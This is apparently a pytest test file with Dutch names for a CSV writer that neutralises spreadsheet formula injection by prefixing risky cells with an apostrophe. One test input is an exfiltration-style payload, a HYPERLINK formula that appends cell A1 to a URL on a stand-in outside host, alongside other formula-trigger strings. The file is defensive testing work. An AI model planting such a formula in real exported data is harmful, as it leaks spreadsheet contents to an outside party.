"""No cell of a CSV of ours is a formula."""

import csv
from io import StringIO

import pytest

from naober.kern.rekenblad import schrijf_rijen, veilige_cel


@pytest.mark.parametrize(
    "tekst",
    ['=HYPERLINK("https://elders.example/?"&A1)', "+31 6 12345678", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1", "＝1"],
)
def test_tekst_die_een_rekenblad_zou_uitrekenen_wordt_weer_tekst(tekst: str) -> None:
    assert veilige_cel(tekst) == f"'{tekst}"


@pytest.mark.parametrize("waarde", ["Jansen", "a=b", "", None, -12, 3.5, "O'Neil"])
def test_wat_geen_formule_is_blijft_zoals_het_was(waarde: object) -> None:
    assert veilige_cel(waarde) == waarde  # type: ignore[arg-type]


def test_een_rij_komt_eruit_zoals_rfc_4180_het_wil() -> None:
    bestand = StringIO(newline="")
    assert schrijf_rijen(bestand, [["naam", "bedrag"], ['Jansen, "Jan"', -5], ["=1+1", 0]]) == 3
    assert bestand.getvalue() == 'naam,bedrag\r\n"Jansen, ""Jan""",-5\r\n\'=1+1,0\r\n'
    assert list(csv.reader(StringIO(bestand.getvalue(), newline="")))[2] == ["'=1+1", "0"]
